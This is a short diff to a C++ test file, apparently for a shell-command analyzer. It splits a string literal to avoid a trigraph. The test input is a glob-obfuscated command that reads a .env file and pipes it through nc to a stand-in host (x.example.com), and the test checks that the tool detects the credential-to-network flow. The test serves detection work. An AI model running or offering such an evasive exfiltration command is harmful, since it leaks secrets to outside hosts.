@@ -108,7 +108,7 @@ TEST_CASE("text helpers decode escapes, hosts and payloads") {
 }
 
 TEST_CASE("a glob as the command word is resolved against the commands that matter") {
-  auto facts = analyze("/???/?at .env | /usr/bin/n? x.example.com 1");
+  auto facts = analyze("/??" "?/?at .env | /usr/bin/n? x.example.com 1");  // split: "??/" is a trigraph to the compiler
   CHECK(has_command(facts, "cat"));
   CHECK(has_command(facts, "nc"));
   CHECK(has_flow(facts, "credential_file", "network"));
